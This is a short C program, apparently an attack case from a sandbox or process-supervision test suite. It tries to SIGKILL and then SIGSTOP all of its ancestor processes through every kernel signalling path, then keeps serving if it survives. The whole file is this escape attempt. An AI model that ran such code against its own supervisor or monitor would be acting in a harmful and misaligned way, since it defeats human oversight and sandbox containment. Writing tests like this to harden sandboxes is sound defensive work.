#include "attack.h"


int main(void)
{
    pid_t above[8], self = getpid();
    int count = ancestors(above, 8);
    siginfo_t info;

    memset(&info, 0, sizeof info);
    info.si_code = SI_QUEUE;
    for (int i = 0; i < count; ++i) {
        pid_t pid = above[i];
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        kill(pid, SIGKILL);
        kill(-pid, SIGKILL);
        syscall(SYS_tkill, pid, SIGKILL);
        syscall(SYS_tgkill, pid, pid, SIGKILL);
        syscall(SYS_rt_sigqueueinfo, pid, SIGKILL, &info);
        syscall(SYS_rt_tgsigqueueinfo, pid, pid, SIGKILL, &info);
        syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0);
        kill(pid, SIGSTOP);
    }
    if (getpid() == self)
        serve();
}
